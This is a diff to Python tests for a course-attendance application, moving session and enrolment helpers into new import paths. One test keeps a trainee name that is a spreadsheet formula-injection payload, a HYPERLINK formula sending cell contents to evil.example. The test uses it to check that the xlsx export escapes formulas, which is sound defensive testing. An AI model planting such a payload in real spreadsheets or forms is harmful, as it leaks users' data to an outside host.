@@ -19,6 +19,8 @@ from training.attendance import badges, services, sheet
 from training.attendance.models import Attendance
 from training.clock import to_utc
 from training.courses import services as courses
+from training.courses.enrolment import enrol_many
+from training.courses.planning import generate_sessions, save_session
 from training.courses.models import CourseSession, Enrolment
 from training.extensions import db
 from training.people.models import Trainee
@@ -76,12 +78,12 @@ def course(in_request, units, trainer_a, make_trainee):
     time decides), the manual roster for absent and excused."""
     course = courses.create_course(units["A"].id, "CT1", TITLE, VENUE, MONDAY, 40, [trainer_a.id])
     modules = [m.code for m in course.curriculum.modules]
-    sessions = [courses.save_session(course, None, modules[i % len(modules)], day, start, end, VENUE, trainer_a.id)
+    sessions = [save_session(course, None, modules[i % len(modules)], day, start, end, VENUE, trainer_a.id)
                 for i, (day, start, end) in enumerate(SLOTS)]
     # Made in another order than the sheet's, so that the sheet has to sort them.
     trainees = {name: make_trainee(name, commune="Xã Hồng Kỳ" if i % 2 else "Xã Đồng Kỳ", position="Công chức")
                 for i, name in enumerate(reversed(IN_ORDER))}
-    courses.enrol_many(course, list(trainees.values()))
+    enrol_many(course, list(trainees.values()))
     courses.change_status(course, "open")  # a course in draft takes no check-ins
     db.session.commit()
     for name, statuses in PLAN.items():
@@ -256,7 +258,7 @@ def test_forty_sessions_and_three_hundred_trainees_render(in_request, units, tra
 
 def test_attendance_xlsx_reads_back_with_names_numbers_and_escaped_formulas(course, login, trainer_a, make_trainee):
     sneaky = make_trainee('=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', position="+84 912", commune="Xã Đồng Kỳ")
-    courses.enrol_many(course, [sneaky])
+    enrol_many(course, [sneaky])
     db.session.commit()
     response = login(trainer_a).get(f"/courses/{course.id}/attendance.xlsx")
     assert response.status_code == 200
@@ -352,7 +354,7 @@ def test_signin_sheet_of_many_sessions_has_a_box_per_day(in_request, units, trai
 
 def test_sheets_of_a_course_nobody_has_joined_say_so(in_request, units, trainer_a, login):
     course = courses.create_course(units["A"].id, "CT1", "Lớp chưa có ai", VENUE, MONDAY, 30, [trainer_a.id])
-    courses.generate_sessions(course)
+    generate_sessions(course)
     db.session.commit()
     client = login(trainer_a)
     for url in (f"/courses/{course.id}/attendance.pdf", f"/courses/{course.id}/signin-sheet.pdf"):
